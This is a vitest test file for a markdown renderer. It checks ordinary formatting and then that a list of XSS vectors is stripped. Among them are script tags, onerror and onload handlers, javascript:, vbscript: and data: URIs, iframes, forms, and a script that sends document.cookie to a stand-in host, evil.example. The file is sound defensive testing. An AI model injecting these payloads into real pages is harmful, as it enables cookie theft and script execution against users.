import { describe, expect, it } from 'vitest';
import { headingSlug, renderMarkdown } from './markdown.service';

const html = (markdown: string) => renderMarkdown(markdown).html;

/** Nothing that runs script may survive, however it is spelt. */
function expectInert(output: string) {
  expect(output).not.toMatch(/<script|<iframe|<svg|<object|<embed|<style|<form|<input|<math/i);
  // An attribute named on… (text inside a quoted value, such as alt="… onerror=…", is harmless).
  expect(output.replace(/"[^"]*"/g, '""')).not.toMatch(/\son[a-z]+\s*=/i);
  expect(output).not.toMatch(/javascript:|vbscript:|data:/i);
}

describe('renderMarkdown: what authors write', () => {
  it('renders headings, paragraphs, lists, emphasis, code, quotes, tables and rules', () => {
    const out = html(
      [
        '## Plan',
        'Some **bold** and *italic* text with `code`.',
        '- one\n- two',
        '1. first\n2. second',
        '> A quote',
        '```ts\nconst x = 1 < 2;\n```',
        '| Plan | Price |\n|:--|--:|\n| Basic | £10 |',
        '---',
      ].join('\n\n'),
    );
    expect(out).toContain('<h2 id="plan">Plan</h2>');
    expect(out).toContain('<strong>bold</strong>');
    expect(out).toContain('<em>italic</em>');
    expect(out).toContain('<code>code</code>');
    expect(out).toContain('<ul>\n<li>one</li>');
    expect(out).toContain('<ol>\n<li>first</li>');
    expect(out).toContain('<blockquote>');
    expect(out).toContain('<pre><code class="language-ts">const x = 1 &lt; 2;');
    expect(out).toContain('<th align="left">Plan</th>');
    expect(out).toContain('<td align="right">£10</td>');
    expect(out).toContain('<hr />');
  });

  it('keeps http(s), mailto and relative links; external ones get rel="noopener noreferrer"', () => {
    const out = html('[a](https://example.com/x) [b](/pricing) [c](mailto:hello@example.com) [d](#plan)');
    expect(out).toContain('<a href="https://example.com/x" rel="noopener noreferrer">a</a>');
    expect(out).toContain('<a href="/pricing">b</a>');
    expect(out).toContain('<a href="mailto:hello@example.com">c</a>');
    expect(out).toContain('<a href="#plan">d</a>');
    expect(out).not.toContain('target=');
  });

  it('keeps images with http(s) or relative sources, lazily loaded', () => {
    const out = html('![Chart](https://cdn.example.com/c.png "Growth") ![Logo](/images/logo.svg)');
    expect(out).toContain('<img src="https://cdn.example.com/c.png" alt="Chart" title="Growth" loading="lazy" />');
    expect(out).toContain('<img src="/images/logo.svg" alt="Logo" loading="lazy" />');
  });

  it('gives h2 and h3 stable, unique ids and lists them; h1 becomes h2 (the page has its own h1)', () => {
    const { html: out, headings } = renderMarkdown(
      '# Intro\n\n## Costs & *fees*\n\n### Café au lait\n\n## Costs & fees\n\n## Costs & fees\n\n#### Deep\n\n## !!!',
    );
    expect(headings).toEqual([
      { id: 'intro', text: 'Intro', level: 2 },
      { id: 'costs-fees', text: 'Costs & fees', level: 2 },
      { id: 'cafe-au-lait', text: 'Café au lait', level: 3 },
      { id: 'costs-fees-2', text: 'Costs & fees', level: 2 },
      { id: 'costs-fees-3', text: 'Costs & fees', level: 2 },
      { id: 'section', text: '!!!', level: 2 },
    ]);
    expect(out).toContain('<h2 id="intro">Intro</h2>');
    expect(out).toContain('<h2 id="costs-fees">Costs &amp; <em>fees</em></h2>');
    expect(out).toContain('<h4>Deep</h4>');
    expect(out).not.toContain('<h1');
  });

  it('makes slugs from text', () => {
    expect(headingSlug('  Raising a Seed Round (2026)  ')).toBe('raising-a-seed-round-2026');
    expect(headingSlug('Überweisung')).toBe('uberweisung');
    expect(headingSlug('---')).toBe('section');
    expect(headingSlug('x'.repeat(200))).toHaveLength(80);
  });

  it('renders empty input as nothing', () => {
    expect(renderMarkdown('')).toEqual({ html: '', headings: [] });
  });
});

describe('renderMarkdown: XSS vectors are removed', () => {
  const vectors: [string, string][] = [
    ['script tag', 'Hello <script>alert(document.cookie)</script> world'],
    ['script in a block', '<script>\nfetch("https://evil.example/?c=" + document.cookie)\n</script>'],
    ['img onerror', '<img src=x onerror="alert(1)">'],
    ['img onerror unquoted', '<img src=x onerror=alert(1)//>'],
    ['svg onload', '<svg onload=alert(1)><circle r="1"/></svg>'],
    ['svg with script', '<svg><script>alert(1)</script></svg>'],
    ['javascript link (markdown)', '[click](javascript:alert(1))'],
    ['javascript link (mixed case)', '[click](JaVaScRiPt:alert(1))'],
    ['javascript link (entity-encoded)', '<a href="jav&#x61;script:alert(1)">x</a>'],
    ['javascript link (tab)', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
    ['javascript link (html)', '<a href="javascript:alert(1)" onclick="alert(2)">x</a>'],
    ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
    ['data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['data image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
    ['iframe', '<iframe src="https://evil.example"></iframe>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['object/embed', '<object data="x.swf"></object><embed src="x.swf">'],
    ['style with expression', '<style>body{background:url(javascript:alert(1))}</style><p style="color:red">x</p>'],
    ['form', '<form action="https://evil.example"><input name="p"></form>'],
    ['event handler on allowed tag', '<p onmouseover="alert(1)">hover</p><h2 onclick="x()">T</h2>'],
    ['nested tag trick', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['unclosed attribute', '<img src="x" alt="a\' onerror=\'alert(1)">'],
    ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['link in a heading', '## [Go](javascript:alert(1))'],
    ['protocol-relative image', '<img src="//evil.example/x.png" onerror=alert(1)>'],
  ];

  it.each(vectors)('%s', (_name, markdown) => {
    expectInert(html(markdown));
  });

  it('leaves a broken attribute as harmless text', () => {
    expect(html('<img src="x" alt="a\' onerror=\'alert(1)">')).toBe(
      '<img src="x" alt="a\' onerror=\'alert(1)" loading="lazy" />',
    );
  });

  it('keeps the text around removed markup', () => {
    expect(html('Hello <script>alert(1)</script> world')).toBe('<p>Hello  world</p>');
    expect(html('<p onmouseover="alert(1)">hover</p>')).toBe('<p>hover</p>');
  });

  it('drops ids written in raw HTML so they cannot clash with the page', () => {
    const { html: out, headings } = renderMarkdown('<h2 id="main-content">Sneaky</h2>\n\n## Real');
    expect(out).toContain('<h2>Sneaky</h2>');
    expect(out).toContain('<h2 id="real">Real</h2>');
    expect(headings).toEqual([{ id: 'real', text: 'Real', level: 2 }]);
  });
});
